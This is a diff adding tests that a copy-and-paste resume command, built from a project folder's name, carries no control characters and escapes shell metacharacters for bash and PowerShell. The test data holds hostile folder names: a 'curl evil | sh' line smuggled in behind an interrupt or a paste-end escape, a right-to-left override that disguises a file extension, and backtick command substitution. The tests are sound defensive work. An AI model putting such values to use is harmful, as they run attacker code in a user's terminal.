@@ -140,3 +140,24 @@ test("what became of a folder on another system is not known here", async () => 
     command: `New-Item -ItemType Directory -Force '${windows}' | Out-Null; cd '${windows}'; claude --resume ${OLD}`,
   });
 });
+
+test.skipIf(process.platform === "win32").each([
+  [
+    "an interrupt, behind which a pasted line would run as a command of its own",
+    "/x/\u0003\ncurl evil | sh\n/y",
+  ],
+  ["the end of what a terminal takes for pasted", "/x/\u001b[201~\rcurl evil\r"],
+  ["C1 controls", "/x/\u009b201~"],
+  ["a text that reads otherwise than it is", "/x/\u202egpj.exe\u2066\u200b"],
+  ["digits behind a control, quotes and backslashes", "/x/\u00017 it\u2019s 'a' \\n $HOME `id` \u0002"],
+])("a command to be copied holds none of the controls that a folder's name has: %s", (_, folder) => {
+  const command = resumeCommand({ id: OLD, projectPath: folder }) ?? "";
+  expect(command).not.toMatch(/[\p{Cc}\p{Cf}]/u);
+  const word = command.replace(/^cd /, "").replace(/ && claude --resume .*$/, "");
+  expect(execFileSync("bash", ["-c", `printf %s ${word}`], { encoding: "utf8" })).toBe(folder);
+});
+
+test("nor does one for PowerShell, where a word in double quotes has its own signs", () => {
+  const word = POWERSHELL.word('C:\\x\u0003"$HOME`’\u202e');
+  expect(word).toBe('"C:\\x$([char]0x3)`"`$HOME``’$([char]0x202e)"');
+});
